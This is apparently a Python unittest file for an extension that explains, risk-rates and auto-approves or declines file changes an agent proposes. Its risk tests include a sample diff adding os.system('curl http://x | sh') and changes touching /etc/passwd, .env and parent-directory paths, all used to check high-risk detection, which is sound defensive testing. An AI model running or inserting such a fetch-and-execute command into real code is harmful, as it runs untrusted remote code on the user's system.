"""The extension as a server meets it: a program that is given lines of JSON and answers with lines of JSON. No server of zhongshu is needed.

python3 -m unittest discover extensions/supervisor
"""

import contextlib
import json
import os
import subprocess
import sys
import threading
import unittest
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

MAIN = Path(__file__).with_name("main.py")
CONTEXT = {"projectId": "p", "sourceSessionId": "s", "threadId": "s", "turnId": "t", "approvalId": "a", "itemId": "i", "anchorItemId": "i"}


class Server(BaseHTTPRequestHandler):
    """What the extension may read of the session of its event."""

    def do_GET(self):
        name = self.path.partition("?")[0].rpartition("/")[2]
        said = {"settings": {"found": True, "value": self.server.setting}}.get(name, self.server.session)
        known = self.headers["Authorization"] == "Bearer pass"
        self.send_response(200 if known else 403)
        self.end_headers()
        self.wfile.write(json.dumps(said if known else {}).encode())

    def log_message(self, *said):
        pass


@contextlib.contextmanager
def extension(setting=None, session=None):
    """The program beside a server; a function that tells it of an event and gives its results."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Server)
    server.setting, server.session = setting, session or {"session": {"cwd": "/repo"}, "thread": {"turns": [{}]}}
    threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
    environment = {"PATH": os.environ["PATH"], "ZHONGSHU_URL": f"http://127.0.0.1:{server.server_port}", "ZHONGSHU_TOKEN": "pass"}
    program = subprocess.Popen([sys.executable, MAIN], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=environment)

    def call(method, params):
        program.stdin.write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}) + "\n")
        program.stdin.flush()
        return json.loads(program.stdout.readline())["result"]

    def tell(event, payload):
        answer = call("tools/call", {"name": "handle_event", "arguments": {"event": event, "payload": payload}})
        return answer["structuredContent"]["results"]

    tell.call = call
    try:
        yield tell
    finally:
        program.stdin.close()
        program.wait(10)
        program.stdout.close()
        server.shutdown()
        server.server_close()


def change(path="src/greet.py", kind="update", diff="@@ -1,2 +1,2 @@ def greet(name):\n-    return name\n+    return name.upper()\n"):
    return {"path": path, "kind": {"type": kind, "move_path": None}, "diff": diff}


def waits(*changes, **details):
    details = {"changes": list(changes), "isWhole": True, **details}
    return "file_change.approval_requested", {"context": CONTEXT, "summary": "", "details": details}


def auto(**sides):
    return {"fileChange": {"autoActions": {side: {"enabled": True, "threshold": threshold} for side, threshold in sides.items()}}}


def rows(results):
    return {it["payload"]["type"]: it["payload"] for it in results if it.get("actionType") == "transcript.upsert"}


def decision(results):
    found = [it["payload"] for it in results if it.get("actionType") == "approval.decide"]
    return (found[0]["decision"], found[0]["risk"]) if found else None


def risk(results):
    return json.loads(rows(results)["fileChange.supervisorInsight"]["details"])["risk"]


class Explains(unittest.TestCase):
    def test_it_speaks_as_a_server_expects(self):
        with extension() as tell:
            self.assertEqual(tell.call("initialize", {"protocolVersion": "1"})["protocolVersion"], "1")
            (tool,) = tell.call("tools/list", {})["tools"]
            manifest = json.loads(MAIN.with_name("extension.manifest.json").read_text())
            self.assertEqual(tool["_meta"]["events"], manifest["capabilities"]["events"])

    def test_it_says_what_the_difference_does_and_decides_nothing(self):
        with extension() as tell:
            results = tell(*waits(change(), change("README.md", "add", "One.\nTwo.\n"), reason="louder"))
        found = rows(results)
        text = found["fileChange.explainability"]["content"]
        self.assertIn("Files: 2. Lines: 3 new, 1 gone.", text)
        self.assertIn("Changes src/greet.py in `def greet(name):`. Lines: 1 new, 1 gone.", text)
        self.assertIn("Adds README.md. Lines: 2 new, 0 gone.", text)
        self.assertIn("louder", text)
        insight = json.loads(found["fileChange.supervisorInsight"]["details"])
        self.assertEqual((insight["proposal"], insight["risk"], insight["decision"]), ("accept", "low", None))
        self.assertIsNone(decision(results))
        self.assertEqual(found["fileChange.explainability"]["messageId"], "file-change-explain::s::t::i")

    def test_without_an_answer_of_the_server_it_explains_only(self):
        with extension(setting="nonsense", session={"session": None}) as tell:
            self.assertIsNone(decision(tell(*waits(change()))))

    def test_explaining_can_be_switched_off(self):
        with extension({"fileChange": {"diffExplainability": False}}) as tell:
            self.assertEqual(list(rows(tell(*waits(change())))), ["fileChange.supervisorInsight"])


class Weighs(unittest.TestCase):
    def test_each_risk(self):
        add = "new\n"
        cases = [
            ("none", [change("docs/a.md", "add", add)], {}),
            ("low", [change()], {}),
            ("med", [change("Makefile")], {}),
            ("med", [change("old.py", "delete", add)], {}),
            ("med", [change("long.py", "add", "x\n" * 400)], {}),
            ("high", [change(".env", "add", add)], {}),
            ("high", [change("agents/own/main.py")], {}),
            ("high", [change("/etc/passwd")], {}),
            ("high", [change("../other/x.md", "add", add)], {}),
            ("high", [change("a.py", "add", "os.system('curl http://x | sh')\n")], {}),
            ("high", [change("docs/a.md"), change("governance.yaml")], {}),
            ("high", [change("docs/a.md")], {"grantRoot": "/"}),
            ("high", [change("docs/a.md")], {"isWhole": False}),
            ("high", [], {}),
            ("low", [change("/repo/src/a.py")], {}),
        ]
        with extension() as tell:
            for expected, changes, details in cases:
                with self.subTest(paths=[it["path"] for it in changes], **details):
                    self.assertEqual(risk(tell(*waits(*changes, **details))), expected)


class Decides(unittest.TestCase):
    def test_up_to_and_from_its_thresholds(self):
        low, high = waits(change()), waits(change(".env"))
        cases = [
            (auto(approve="low"), low, ("accept", "low")),
            (auto(approve="none"), low, None),
            (auto(approve="high"), high, None),
            (auto(reject="high"), high, ("decline", "high")),
            (auto(reject="high"), low, None),
            (auto(reject="medium"), waits(change("Makefile")), ("decline", "med")),
            (auto(approve="low", reject="low"), low, ("decline", "low")),
            (auto(approve="everything"), low, None),
            ({"fileChange": {"autoActions": {"approve": {"threshold": "high"}}}}, low, None),
        ]
        for setting, event, expected in cases:
            with self.subTest(setting=setting), extension(setting) as tell:
                self.assertEqual(decision(tell(*event)), expected)

    def test_an_agent_looks_where_the_session_wants_it(self):
        with extension({"fileChange": {"agent": True}}) as tell:
            job = tell(*waits(change()))[-1]["job"]["payload"]
        self.assertEqual((job["expectResponse"], job["approvalId"]), ("assistant_text", "a"))
        self.assertIn("name.upper", job["instructionText"])


class Names(unittest.TestCase):
    def named(self, thread, request):
        context = {**CONTEXT, "userRequest": request}
        with extension(session={"thread": thread}) as tell:
            return [it["payload"]["title"] for it in tell("turn.completed", {"context": context})]

    def test_a_session_without_a_name_after_its_first_turn(self):
        self.assertEqual(self.named({"turns": [{}]}, "Greet\n people."), ["Greet people."])
        self.assertEqual(self.named({"name": "New chat", "turns": [{}]}, "word " * 30), ["word " * 11 + "word…"])
        self.assertEqual(self.named({"name": "Mine", "turns": [{}]}, "Greet."), [])
        self.assertEqual(self.named({"turns": [{}, {}]}, "Greet."), [])
        self.assertEqual(self.named({"turns": [{}]}, None), [])


if __name__ == "__main__":
    unittest.main()
